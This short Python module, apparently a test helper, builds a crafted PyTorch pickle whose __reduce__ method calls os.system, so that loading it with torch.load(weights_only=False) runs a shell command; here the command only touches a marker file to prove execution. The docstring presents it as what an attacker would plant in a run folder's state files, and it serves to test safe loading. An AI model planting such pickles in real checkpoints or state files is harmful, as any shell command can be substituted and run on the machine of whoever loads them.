"""A pickle that runs code when loaded: what an attacker would put in a run folder's state files."""

import io
import os

import torch


class _Payload:
    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def crafted_pickle(marker) -> bytes:
    """A torch.save file that creates `marker` when torch.load(weights_only=False) reads it."""
    buffer = io.BytesIO()
    torch.save({"step": 1, "payload": _Payload(marker)}, buffer)
    return buffer.getvalue()
